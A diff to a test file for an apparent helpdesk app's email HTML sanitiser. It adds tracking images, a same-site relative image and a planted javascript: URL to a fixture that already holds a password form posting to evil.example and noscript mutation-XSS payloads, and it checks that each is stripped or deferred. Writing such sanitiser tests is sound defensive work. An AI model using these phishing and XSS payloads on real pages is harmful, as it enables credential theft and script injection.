@@ -37,6 +37,9 @@ HOSTILE_HTML = """<html><head>
 <form action="https://evil.example/steal"><input name="password"><button>Log in</button></form>
 <div style="behavior: url(x.htc)">styled</div>
 <img src="https://tracker.example/pixel.gif" alt="pixel" width="1" height="1">
+<img src="//tracker.example/relative-scheme.gif" alt="pixel 2">
+<img src="/settings/profile/" alt="our own page">
+<img data-remote-src="javascript:alert(19)" alt="planted">
 <img src="cid:logo@globex" alt="logo">
 <!-- <script>alert(17)</script> -->
 <noscript><p title="</noscript><img src=x onerror=alert(18)>"></p></noscript>
@@ -48,8 +51,8 @@ HOSTILE_HTML = """<html><head>
 EXPECTED_BODY_HTML = (
     "\n\n\n\n\n\n\n\n"
     "<p>Hello <b>there</b></p>\n"
-    # A relative src is kept: it can only reach our own server with a GET, and no handler survives.
-    '<img src="x">\n'
+    # A relative src is dropped: it would fetch one of our own pages with the agent's session.
+    "<img>\n"
     '<a rel="noopener noreferrer nofollow">js link</a>\n'
     '<a rel="noopener noreferrer nofollow">entity js link</a>\n'
     '<a rel="noopener noreferrer nofollow">data link</a>\n'
@@ -59,10 +62,13 @@ EXPECTED_BODY_HTML = (
     "Log in\n"  # the form and its input are gone; the button's label is plain text
     "<div>styled</div>\n"
     '<img data-remote-src="https://tracker.example/pixel.gif" alt="pixel" width="1" height="1">\n'
+    '<img data-remote-src="https://tracker.example/relative-scheme.gif" alt="pixel 2">\n'
+    '<img alt="our own page">\n'
+    '<img alt="planted">\n'
     '<img src="/attachments/{logo}/" alt="logo">\n'
     "\n"
     # The noscript mutation-XSS attempt ends as escaped text and an <img> without any handler.
-    '&lt;p title="<img src="x">"&gt;<p></p>\n'
+    '&lt;p title="<img>"&gt;<p></p>\n'
     "\n"
 )
 
@@ -125,7 +131,8 @@ def test_remote_images_wait_for_the_agent_to_load_them(acme: Cast, mailbox: Mail
     shown = conversation(signed_in_client(acme.agent).get(f"/tickets/{result.ticket_number}/").text)
     # The tracking pixel has no src, so the browser fetches nothing until the agent clicks the button.
     assert re.findall(r"<img[^>]*tracker\.example[^>]*>", shown) == [
-        '<img data-remote-src="https://tracker.example/pixel.gif" alt="pixel" width="1" height="1">'
+        '<img data-remote-src="https://tracker.example/pixel.gif" alt="pixel" width="1" height="1">',
+        '<img data-remote-src="https://tracker.example/relative-scheme.gif" alt="pixel 2">',
     ]
     assert ' src="https://tracker' not in shown
     assert re.findall(r"<button[^>]*data-load-remote-images[^>]*>[^<]*</button>", shown) == [
